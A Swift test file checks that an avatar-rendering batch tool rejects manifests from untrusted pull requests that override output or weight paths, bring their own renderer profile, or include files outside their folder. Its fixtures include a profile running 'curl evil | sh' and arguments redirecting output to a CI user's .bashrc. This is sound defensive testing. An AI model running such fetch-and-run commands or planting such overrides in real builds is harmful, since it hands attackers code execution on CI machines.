import Foundation
import Manifest
import TestSupport
import Testing

/// What a manifest from a stranger's pull request can make avatar-batch do (docs/security.md): each escape the
/// issue lists, tried against the real liveavatar profile.
@Suite struct UntrustedManifestTests {
    static func load(_ dir: TempDir, _ body: String, untrusted: Bool, renderer: String = "liveavatar") -> LoadResult {
        dir.write("face.png", Media.png)
        dir.write("a.wav", Media.wav(seconds: 1))
        let home = liveAvatarHome(dir)
        dir.write("ci/m.yaml", """
            version: 1
            renderer: \(renderer)
            defaults: {image: ../face.png, audio: ../a.wav, prompt: "a teacher", num_clip: 1}
            \(body)
            """)
        var o = LoadOptions()
        o.environment = ["LIVEAVATAR_HOME": home, "AVATAR_BATCH_RENDERERS": PackagePaths.renderers]
        o.untrusted = untrusted
        return ManifestLoader.load(path: dir.path + "/ci/m.yaml", options: o)
    }

    static func messages(_ r: LoadResult) -> [String] { r.diagnostics.map(\.message) }

    /// In any mode, extra_args cannot override a flag the profile's command sets: argparse keeps the last occurrence
    /// and accepts a unique prefix, so each of these would move the output, the weights or the LoRA.
    @Test(arguments: [
        ("[--save_file, /home/ci/.bashrc]", "extra_args \"--save_file\" would override --save_file, which renderer liveavatar sets itself"),
        ("[--ckpt_dir, /tmp/evil]", "extra_args \"--ckpt_dir\" would override --ckpt_dir, which renderer liveavatar sets itself"),
        ("[--lora_path_dmd, /tmp/evil.pth]", "extra_args \"--lora_path_dmd\" would override --lora_path_dmd, which renderer liveavatar sets itself"),
        ("[--save_file=/home/ci/.bashrc]", "extra_args \"--save_file=/home/ci/.bashrc\" would override --save_file, which renderer liveavatar sets itself"),
        ("[--save_f, /home/ci/.bashrc]", "extra_args \"--save_f\" would override --save_file, which renderer liveavatar sets itself"),
        ("[--sample_solver=unipc]", "extra_args \"--sample_solver=unipc\" would override --sample_solver, which renderer liveavatar sets itself"),
        ("[--use_prompt_extend]", "extra_args flag \"--use_prompt_extend\" is not one renderer liveavatar allows"),
    ])
    func extraArgsNeverOverrideTheCommand(_ extra: String, _ message: String) {
        for untrusted in [false, true] {
            let dir = TempDir()
            let r = Self.load(dir, "clips:\n  - {id: a, extra_args: \(extra)}", untrusted: untrusted)
            #expect(r.manifest == nil)
            #expect(Self.messages(r) == [message], "untrusted: \(untrusted)")
        }
    }

    @Test func anAllowedFlagPasses() throws {
        let dir = TempDir()
        let r = Self.load(dir, "clips:\n  - {id: a, extra_args: [--offload_kv_cache]}", untrusted: true)
        let m = try #require(r.manifest, "\(r.diagnostics)")
        #expect(m.clips[0].settings.extraArgs == ["--offload_kv_cache"])
    }

    @Test func untrustedManifestsNameOnlyInstalledProfiles() {
        let dir = TempDir()
        // A profile the pull request brings along, beside its manifest: found when trusted, never when untrusted.
        dir.write("ci/renderers/mine.yaml", "name: mine\ncommand: [sh, -c, \"curl evil | sh\"]\ndefaults: {size: \"384*256\"}\n")
        #expect(Self.messages(Self.load(dir, "clips:\n  - {id: a}", untrusted: false, renderer: "mine")).isEmpty)
        let shadow = Self.messages(Self.load(dir, "clips:\n  - {id: a}", untrusted: true, renderer: "mine"))
        #expect(shadow.count == 1 && shadow[0] == "unknown renderer \"mine\"", "\(shadow)")
        let path = Self.messages(Self.load(dir, "clips:\n  - {id: a}", untrusted: true, renderer: "renderers/mine.yaml"))
        #expect(path == ["an untrusted manifest may only name an installed renderer profile, not a profile file (a profile is code: it chooses the program)"])
        let inline = Self.messages(Self.load(dir, "clips:\n  - {id: a}", untrusted: true, renderer: "{name: x, command: [sh]}"))
        #expect(inline == ["an untrusted manifest may only name an installed renderer profile, not define one inline (a profile is code: it chooses the program)"])
    }

    @Test func untrustedIncludesStayInTheManifestsFolder() {
        let dir = TempDir()
        dir.write("outside.yaml", "clips:\n  - {id: b}\n")
        dir.write("ci/inside.yaml", "clips:\n  - {id: c}\n")
        let escape = Self.load(dir, "include: [../outside.yaml, inside.yaml]", untrusted: true)
        #expect(Self.messages(escape) == ["an untrusted manifest may only include files inside its own folder, not \"../outside.yaml\""])
        // A symbolic link inside the folder that leads out of it is no way around.
        try? FileManager.default.createSymbolicLink(atPath: dir.path + "/ci/link.yaml", withDestinationPath: dir.path + "/outside.yaml")
        #expect(Self.messages(Self.load(dir, "include: [link.yaml]", untrusted: true)) == ["an untrusted manifest may only include files inside its own folder, not \"link.yaml\""])
        #expect(Self.load(dir, "include: [inside.yaml]", untrusted: true).manifest?.clips.map(\.id) == ["c"])
        #expect(Self.load(dir, "include: [../outside.yaml]", untrusted: false).manifest?.clips.map(\.id) == ["b"])
    }

    @Test func extraArgsNeedAnAllowListWhenUntrustedAndAPlaceholderAlways() {
        let dir = TempDir()
        let synthetic = Self.load(dir, "clips:\n  - {id: a, extra_args: [--repeat, \"2\"]}", untrusted: true, renderer: "synthetic-dit")
        #expect(Self.messages(synthetic) == ["an untrusted manifest may not pass extra_args to synthetic-dit: its profile lists no extra_args_allowed"])
        #expect(Self.load(dir, "clips:\n  - {id: a, extra_args: [--repeat, \"2\"]}", untrusted: false, renderer: "synthetic-dit").manifest != nil)
        let preview = Self.load(dir, "clips:\n  - {id: a, extra_args: [-crf, \"20\"]}", untrusted: false, renderer: "preview")
        #expect(Self.messages(preview) == ["extra_args would be dropped: renderer preview's command has no {extra_args}"])
    }
}
